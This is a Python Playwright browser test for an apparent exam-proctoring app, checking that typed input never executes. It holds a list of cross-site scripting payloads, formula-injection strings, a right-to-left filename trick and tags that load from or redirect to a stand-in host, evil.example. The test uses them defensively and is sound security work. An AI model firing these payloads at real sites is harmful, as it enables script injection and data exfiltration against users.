"""Words that are programs in every field that somebody else gets to see: they stay words."""

from __future__ import annotations

import pytest
from playwright.sync_api import Dialog, Page, expect

from tests.browser.conftest import NewCandidate
from tests.browser.people import Proctor

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "' onmouseover='alert(1)' x='",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "</title><script>alert(1)</script>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>here</a>",
    "<style>@import'//evil.example/x'</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>ok</button></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egnp.exe",
]
_POST = """async ([address, body, method]) => {
    const answer = await fetch(address, {
        method, headers: {"Content-Type": "application/json"}, body: JSON.stringify(body),
    });
    return [answer.status, answer.status === 204 ? null : await answer.json()];
}"""
_LISTEN = """window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
    window.violations.push(event.violatedDirective + " " + event.blockedURI));"""


class Guard:
    """Hears of everything on a page that a payload could bring about."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.dialogs: list[str] = []
        self.asked: list[str] = []
        page.add_init_script(_LISTEN)
        page.on("dialog", self._dismiss)
        page.on("request", lambda request: self.asked.append(request.url))

    def _dismiss(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def check(self) -> None:
        assert self.dialogs == []
        assert self.page.evaluate("window.violations") == []
        assert [url for url in self.asked if "evil.example" in url] == []
        assert self.page.locator("iframe, base, meta[http-equiv=refresh]").count() == 0


def post(page: Page, address: str, body: object, method: str = "POST") -> dict[str, object]:
    status, answer = page.evaluate(_POST, [address, body, method])
    assert status in {200, 201}, answer
    return answer  # type: ignore[no-any-return]


def test_nothing_that_somebody_typed_runs_anywhere(
    proctor: Proctor, new_candidate: NewCandidate
) -> None:
    watching = Guard(proctor.page)
    join_url = proctor.create_session("Payloads")
    session_id = join_url.rpartition("/")[2].partition(".")[0]
    for payload in PAYLOADS:
        post(proctor.page, "/api/v1/sessions", {"title": payload})
    ada = new_candidate("obama")
    at_home = Guard(ada.page)
    ada.come_in(join_url, PAYLOADS[1])
    expect(ada.get("room")).to_be_visible()
    code = join_url.rpartition("/")[2]
    version = ada.page.evaluate(
        "async (code) => (await (await fetch('/api/v1/join/' + code)).json()).consent.version",
        code,
    )
    for payload in PAYLOADS:
        consent = {"version": version, "accepted": True}
        if payload != PAYLOADS[1]:  # that is what the one in the room is called
            post(ada.page, f"/api/v1/join/{code}", {"name": payload, "consent": consent})
        words = {"text": payload, "kind": "warning"}
        post(proctor.page, f"/api/v1/sessions/{session_id}/messages", words)

    proctor.page.reload()
    for payload in PAYLOADS[:4]:
        expect(proctor.page.get_by_role("link", name=payload, exact=True)).to_be_visible()
    watching.check()
    proctor.open_console("Payloads")
    expect(proctor.tile(PAYLOADS[1])).to_be_visible()
    ada.camera.show("two")
    expect(proctor.cards("multiple_faces")).to_have_count(1)
    incidents = proctor.page.evaluate(
        "async (id) => (await (await fetch(`/api/v1/sessions/${id}/incidents`)).json()).incidents",
        session_id,
    )
    address = f"/api/v1/incidents/{incidents[0]['id']}/decisions"
    post(proctor.page, address, {"decision": "dismissed", "reason": PAYLOADS[0]})
    card = proctor.cards("multiple_faces").first
    expect(card).to_contain_text(PAYLOADS[0])
    proctor.tile(PAYLOADS[1]).click()
    expect(ada.page.locator("body")).to_contain_text(PAYLOADS[0])
    watching.check()
    at_home.check()
    status, _ = proctor.page.evaluate(
        _POST,
        ["/api/v1/sessions", {"title": "x", "exam_url": "javascript:alert(1)"}, "POST"],
    )
    assert status == 422
